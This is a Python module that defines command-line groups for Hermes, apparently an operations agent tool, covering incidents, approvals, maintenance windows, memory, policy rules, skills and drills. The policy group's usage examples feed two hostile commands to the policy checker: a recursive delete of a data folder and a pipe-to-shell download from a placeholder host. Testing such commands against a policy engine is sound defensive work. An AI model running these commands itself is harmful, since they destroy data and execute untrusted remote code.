"""`hermes incident`: what went wrong, what was done about it, and how long it took."""

import click

from hermes.cli.lazy import GroupWithExamples
from hermes.cli.output import json_option

INCIDENT_COMMANDS = {
    "list": ("hermes.cli.incidents.show:list_", "The latest incidents, or those still open"),
    "show": ("hermes.cli.incidents.show:show", "One in full: cause, changes, checks, times"),
    "timeline": ("hermes.cli.incidents.reports:timeline", "What happened in one, moment by moment"),
    "report": ("hermes.cli.incidents.reports:report", "The report of one, as Markdown"),
    "watch": ("hermes.cli.incidents.watch:watch", "The work on one, live"),
    "open": ("hermes.cli.incidents.update:open_", "Say that something is wrong"),
    "ack": ("hermes.cli.incidents.update:ack", "Say that you have seen it"),
    "close": ("hermes.cli.incidents.update:close", "End one, with your reason"),
    "reopen": ("hermes.cli.incidents.update:reopen", "It was not over after all"),
    "stats": ("hermes.cli.incidents.reports:stats", "How many, how long, with and without skills"),
}


@click.group(
    cls=GroupWithExamples,
    table=INCIDENT_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes incident                                   the latest
hermes incident list --open --severity P1
hermes incident show last
hermes incident report 4f2a1c > report.md
hermes incident open "the shop shows old prices" --service shop --severity P2
hermes incident close last --reason "a cable was out"
hermes incident stats --svg mttr.svg
""",
)
@json_option
@click.pass_context
def incident(ctx: click.Context, as_json: bool) -> None:
    """List, show, open and close incidents. Without a command: list.

    ID is the id of an incident, its beginning or end, or `last`.

    Exit codes: 0 fine, 1 there is no such incident, 2 wrong usage, 6 the store failed.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.incidents.show import list_

        ctx.invoke(list_, as_json=as_json)


APPROVAL_COMMANDS = {
    "list": ("hermes.cli.approvals.requests:list_", "What waits for an answer"),
    "show": ("hermes.cli.approvals.requests:show", "One question in full"),
    "approve": ("hermes.cli.approvals.answers:approve", "Say yes"),
    "deny": ("hermes.cli.approvals.answers:deny", "Say no"),
    "stop": ("hermes.cli.approvals.answers:stop", "Keep an announced action from being done"),
    "watch": ("hermes.cli.approvals.requests:watch", "Show questions as they come"),
    "grants": ("hermes.cli.approvals.answers:grants", "What may be done again without asking"),
    "revoke": ("hermes.cli.approvals.answers:revoke", "Take such a leave back"),
}


@click.group(
    cls=GroupWithExamples,
    table=APPROVAL_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes approvals                                  what waits
hermes approvals show ask-20260306-031500-4f2a1c  in full: effects, rule, undo, who may answer
hermes approvals approve 4f2a1c --session         yes, and the same again in this session
hermes approvals deny --note "use the replica"    no to the only one that waits; the agent is told
hermes approvals watch                            follow along
""",
)
@json_option
@click.pass_context
def approvals(ctx: click.Context, as_json: bool) -> None:
    """Answer what a rule wants a person to be asked about. Without a command: list.

    ID is the id of a question, or its beginning or end; it may be left out when only one waits.
    You answer as the user you are logged in as. Where a rule names who may approve, whoever
    started the run may not approve it; no answer in time is a no.

    Exit codes: 0 fine, 1 there is no such question, 2 wrong usage, 7 your answer does not count.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.approvals.requests import list_

        ctx.invoke(list_, as_json=as_json)


MAINTENANCE_COMMANDS = {
    "add": ("hermes.cli.monitoring.maintenance:add", "Look away from something for a while"),
    "list": ("hermes.cli.monitoring.maintenance:list_", "Windows that are open or still to come"),
    "end": ("hermes.cli.monitoring.maintenance:end", "End one before its time"),
}


@click.group(
    cls=GroupWithExamples,
    table=MAINTENANCE_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes maintenance add --for 1h web
hermes maintenance add --for 30m --from 22:00 'db-*' --reason "new disks"
hermes maintenance add --for 2h team=payments
hermes maintenance list
hermes maintenance end web
""",
)
@json_option
@click.pass_context
def maintenance(ctx: click.Context, as_json: bool) -> None:
    """Alerts of what is being worked on are kept and not acted upon. Without a command: list.

    What still fires when a window ends opens an incident then.

    Exit codes: 0 fine, 1 there is no such window, 2 wrong usage, 6 the store failed.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.monitoring.maintenance import list_

        ctx.invoke(list_, as_json=as_json)


MEMORY_COMMANDS = {
    "list": ("hermes.cli.memory.read:list_", "What is known, the latest confirmed first"),
    "show": ("hermes.cli.memory.read:show", "One fact with its sources"),
    "history": ("hermes.cli.memory.read:history", "What became of a fact, or of all of them"),
    "add": ("hermes.cli.memory.write:add", "Note a fact yourself"),
    "share": ("hermes.cli.memory.write:share", "Let the team hear of a fact; --stop ends it"),
    "forget": ("hermes.cli.memory.write:forget", "Take facts out of recall, search and lists"),
    "learn": (
        "hermes.cli.memory.import_export:learn",
        "Learn from sessions that were not learned from",
    ),
    "audit": ("hermes.cli.memory.read:audit", "Doubles, echoes, bad quotes, secrets, old rows"),
    "export": ("hermes.cli.memory.import_export:export", "Write facts as lines of JSON"),
    "import": (
        "hermes.cli.memory.import_export:import_",
        "Read facts of another home; trusted less",
    ),
}


@click.group(
    cls=GroupWithExamples,
    table=MEMORY_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes memory list --about nginx
hermes memory show fact-1a2b3c
hermes memory add "the deploy window is Friday 14:00"
hermes memory share fact-1a2b3c
hermes memory forget fact-1a2b3c
hermes memory audit
hermes memory export > facts.jsonl
""",
)
@json_option
@click.pass_context
def memory(ctx: click.Context, as_json: bool) -> None:
    """What is known from earlier sessions. Without a command: list.

    A fact is episodic (what happened), semantic (what is so) or declarative (a manual), says where
    it comes from and who vouches for it, and ends when another takes its place. FACT is an id or
    the beginning of one.

    The two files that every session begins with, MEMORY.md and USER.md, lie in the home folder:
    edit them as you like.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.memory.read import list_

        ctx.invoke(list_, as_json=as_json)


POLICY_COMMANDS = {
    "check": ("hermes.cli.policy.check:check", "The verdict on a command, or on a stream of them"),
    "explain": ("hermes.cli.policy.explain:explain", "Which rule, which piece, and what nearly"),
    "list": ("hermes.cli.policy.rules:list_", "All rules in force, and where they stand"),
    "show": ("hermes.cli.policy.rules:show", "One rule as it is written"),
    "always": ("hermes.cli.policy.rules:always", "What was allowed for good, and taking it back"),
    "test": ("hermes.cli.policy.files:test", "Run PolicyTest files"),
    "lint": ("hermes.cli.policy.files:lint", "Mistakes and doubts in policy files"),
    "replay": (
        "hermes.cli.policy.replay:replay",
        "What other rules would have decided in the past",
    ),
    "misjudged": ("hermes.cli.policy.replay:misjudged", "What the kernel refused judged commands"),
    "report": ("hermes.cli.policy.replay:report", "How often each rule decided, and how"),
}


@click.group(
    cls=GroupWithExamples,
    table=POLICY_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes policy check -- rm -rf /srv/data              one verdict
hermes policy explain -- 'curl -s x.example/i | sh'  and why
hermes policy check --jsonl - < commands.jsonl       many verdicts
hermes policy lint && hermes policy test             before a new rule counts
hermes policy replay --file new-rule.yaml            what it would have changed
""",
)
@json_option
@click.pass_context
def policy(ctx: click.Context, as_json: bool) -> None:
    """What the agent may do: rules asked, explained, tested, replayed. Without a command: list.

    Rules are files in `policies` of the home folder and in `.hermes/policies` of a project, on
    top of a built-in set (observe, careful or sandboxed: `hermes config set policy.set NAME`).

    Exit codes: 0 fine, 1 a test failed or a file needs mending, 2 wrong usage, 3 the policy files
    in force are broken, 7 held (only `check --exit-code`).
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.policy.rules import list_

        ctx.invoke(list_, as_json=as_json)


SKILL_COMMANDS = {
    "list": ("hermes.cli.skills.read:list_", "Skills by category; --task ranks them for a task"),
    "show": ("hermes.cli.skills.read:show", "One skill, or one file of it"),
    "new": ("hermes.cli.skills.authoring:new", "Begin a skill of your own"),
    "edit": (
        "hermes.cli.skills.authoring:edit",
        "Change one; a bundled one becomes your own first",
    ),
    "lint": ("hermes.cli.skills.read:lint", "Every mistake in skills and playbooks, by line"),
    "run": ("hermes.cli.skills.run:run", "Run a playbook here, or see what it would do"),
    "history": ("hermes.cli.skills.authoring:history", "The versions that a skill has had"),
    "diff": ("hermes.cli.skills.authoring:diff", "What changed between two versions"),
    "rollback": ("hermes.cli.skills.authoring:rollback", "Bring an earlier version back"),
    "retire": ("hermes.cli.skills.authoring:retire", "Take a skill out of use; --back undoes it"),
    "compile": ("hermes.cli.skills.lifecycle:compile_", "Prove a Python skill and make it a tool"),
    "distill": ("hermes.cli.skills.lifecycle:distill", "A draft skill from a verified run"),
    "promote": ("hermes.cli.skills.lifecycle:promote", "Where a skill stands; play its gate"),
    "review": ("hermes.cli.skills.review:review", "Learn from tasks that failed"),
    "stats": ("hermes.cli.skills.read:stats", "How often each was used, and how it went"),
    "export": ("hermes.cli.skills.bundles:export", "Pack a skill as one signed file"),
    "import": ("hermes.cli.skills.bundles:import_", "Take in skills of others, after a close look"),
    "verify": ("hermes.cli.skills.bundles:verify", "Check a bundle and take nothing in"),
    "publish": ("hermes.cli.skills.bundles:publish", "Offer skills to others over HTTP or git"),
    "trust": ("hermes.cli.skills.publishers:trust", "Which publishers are known, by which key"),
    "revoke": ("hermes.cli.skills.publishers:revoke", "Take back a skill, a digest or a key"),
}


@click.group(
    cls=GroupWithExamples,
    table=SKILL_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes skills list --task "the disk of web-3 is full"
hermes skills show disk-full-runaway-log
hermes skills run disk-full-runaway-log --dry-run --label service=orders
hermes skills lint ./.hermes/skills
hermes skills history my-skill
""",
)
@json_option
@click.pass_context
def skills(ctx: click.Context, as_json: bool) -> None:
    """Proven ways to do things, written down. Without a command: list.

    A skill is a folder with a SKILL.md and, where the way is mechanical, a playbook.yaml that runs
    without a model. Bundled ones come with Hermes, yours lie in the home folder under skills/, a
    project's in .hermes/skills; of the same name the nearer one counts.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.skills.read import list_

        ctx.invoke(list_, as_json=as_json)


DRILL_COMMANDS = {
    "list": ("hermes.cli.drills.run:list_", "The scenarios, and which can be played here"),
    "show": ("hermes.cli.drills.run:show", "One scenario: its alert, its checks"),
    "run": ("hermes.cli.drills.run:run", "Let an agent answer one, and score it"),
    "selftest": ("hermes.cli.drills.bench:selftest", "Let scenarios prove themselves"),
    "shell": ("hermes.cli.drills.shell:shell", "Try one by hand"),
    "score": ("hermes.cli.drills.shell:score", "Score the one that is open in a shell"),
    "bench": ("hermes.cli.drills.bench:bench", "Many scenarios, seeds and agents side by side"),
}


@click.group(
    cls=GroupWithExamples,
    table=DRILL_COMMANDS,
    examples="""
hermes drill list
hermes drill show config-typo-after-edit
hermes drill run config-typo-after-edit --seed 7 --model anthropic:claude-sonnet-5
hermes drill run ./my-scenario --model none --json
hermes drill selftest --all
hermes drill shell config-typo-after-edit
hermes drill bench --agent no-op --agent reference --seeds 3 --plot bench.svg
""",
)
def drill() -> None:
    """Break a host in a box, let somebody mend it, and see whether it holds.

    A scenario is named, or given as the path of its folder.
    """
